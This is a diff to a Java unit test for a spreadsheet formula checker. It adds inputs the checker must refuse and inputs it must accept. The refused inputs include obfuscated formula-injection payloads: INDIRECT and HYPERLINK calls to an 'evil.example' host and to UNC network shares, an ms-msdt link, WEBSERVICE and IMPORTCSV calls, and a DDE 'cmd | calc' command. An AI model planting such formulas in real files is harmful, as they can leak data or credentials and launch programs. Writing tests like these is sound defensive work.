@@ -35,13 +35,36 @@ class FormulasTest {
                 "HYPERLINK(\"ms-msdt:/id\"); UNSAFE_LINK; ms-msdt:/id",
                 "'\\\\server\\share\\[b.xlsx]Sheet1'!A1; NETWORK_SHARE; \\\\server\\share\\[b.xlsx]Sheet1",
                 "'https://evil.example/[b.xlsx]Sheet1'!A1; REMOTE_WORKBOOK; https://evil.example/[b.xlsx]Sheet1",
+                "INDIRECT(\"'http://evil.example/[x.xlsx]S'!A1\"); FETCHING_FORMULA; http://evil.example",
+                "INDIRECT((\"'ht\"&\"tp://evil.example/[x.xlsx]S'!A1\")); FETCHING_FORMULA; http://evil.example",
+                "INDIRECT(CONCATENATE(\"'\",\"http:\",\"//evil.example/i.ods'#$S.A1\")); FETCHING_FORMULA; http:",
+                "of:=INDIRECT(\"'\"&\"https://evil.example/i.ods'\"&\"#$S.A1\"); FETCHING_FORMULA; https://evil.example",
+                "INDIRECT(\"'http:\"&A1&\"'!B2\"); FETCHING_FORMULA; http:",
+                "SUM(INDIRECT(\"'\\\\server\\[x.xlsx]S'!A1\")); NETWORK_SHARE; \\\\server",
+                "INDIRECT(\"[\\\\server\\x.xlsx]S!A1\"); NETWORK_SHARE; \\\\server",
+                "INDIRECT(\"'smb://server/x.ods'#$S.A1\"); NETWORK_SHARE; smb://server",
+                "HYPERLINK((\"\\\\server\\x.exe\"),\"a\"); NETWORK_SHARE; \\\\server",
+                "HYPERLINK(\"\"&(\"\\\\server\\s\"),1); NETWORK_SHARE; \\\\server",
+                "HYPERLINK(CONCATENATE(\"\\\",\"\\server\\s\"),1); NETWORK_SHARE; \\\\server",
+                "HYPERLINK(IF(1,\"https://example.org/\",\"\\\\server\\s\"),1); NETWORK_SHARE; \\\\server",
+                "HYPERLINK(IF(A1,\"ms-msdt:/id\",\"\")); UNSAFE_LINK; ms-msdt:/id",
+                "HYPERLINK(\"[\\\\server\\x.xlsx]S!A1\"); NETWORK_SHARE; \\\\server",
+                "_xlfn.IMPORTCSV(\"https://evil.example\"); FETCHING_FORMULA; IMPORTCSV",
+                "_xlfn._xlws.IMPORTTEXT(A1); FETCHING_FORMULA; IMPORTTEXT",
+                "IMPORTRANGE(A1,B1); FETCHING_FORMULA; IMPORTRANGE",
+                "_xlfn._xlws.PY(1,1); FETCHING_FORMULA; PY",
+                "_xlfn.COPILOT(A1); FETCHING_FORMULA; COPILOT",
+                "EVALUATE(\"WEBSERVICE(A1)\"); FETCHING_FORMULA; EVALUATE",
+                "_xlfn.MAP(A1,_xlfn.IMAGE); FETCHING_FORMULA; IMAGE",
+                "_xlfn.MAP(A1,_xlfn.WEBSERVICE); FETCHING_FORMULA; WEBSERVICE",
+                "'cmd | calc'|x; DDE; cmd | calc",
                 "\"unclosed&WEBSERVICE(A1); FETCHING_FORMULA; \"unclosed&WEBSERVICE(A1)"
             })
     void refusesCallsThatFetchOrStart(String formula, Rule rule, String subject) {
         Objection objection = catchThrowableOfType(Refusal.class, () -> Formulas.check(formula))
                 .objection();
         assertThat(objection.rule()).isEqualTo(rule);
-        assertThat(objection.subject()).contains(subject);
+        assertThat(objection.subject()).get().asString().contains(subject);
     }
 
     @ParameterizedTest
@@ -61,6 +84,18 @@ class FormulasTest {
                 "HYPERLINK(\"https://example.org\",\"x\")",
                 "HYPERLINK(\"#\"&A1,\"x\")",
                 "HYPERLINK(A1)",
+                "HYPERLINK(\"https://example.org/\"&A1&\"/\"&B1&\"/\"&C1,\"Note: x\")",
+                "HYPERLINK(\"https:\"&\"//example.org/\"&TEXT(A1,\"hh:mm\"))",
+                "HYPERLINK(SUBSTITUTE(A1,\"\\\",\"/\"))",
+                "HYPERLINK(\"#'\"&A1&\"'!A1\",A1)",
+                "HYPERLINK(CONCATENATE(\"#\",A1,\"!A1\"),IF(1,\"a\",\"b\"))",
+                "INDIRECT(\"'\"&A1&\"'!B\"&ROW())",
+                "INDIRECT(\"A1:A\"&B1)",
+                "INDIRECT(\"Sheet1!A1:B2\",TRUE)",
+                "of:=INDIRECT(\"$'Image (2)'.A1\")",
+                "'R&D | Image(2)'!A4",
+                "'[1]R & D | x'!A4",
+                "_xlfn.STOCKHISTORY(\"X\",1)+_xlfn.TRANSLATE(A1,\"en\")",
                 "FILTERXML(A1,\"//a\")",
                 "IFERROR(__xludf.DUMMYFUNCTION(\"IMPORTRANGE(\"\"https://docs.google.com/x\"\",\"\"A1\"\")\"),\"x\")",
                 "of:=SUM([.A1:.A3];[$'Image (2)'.B1])",
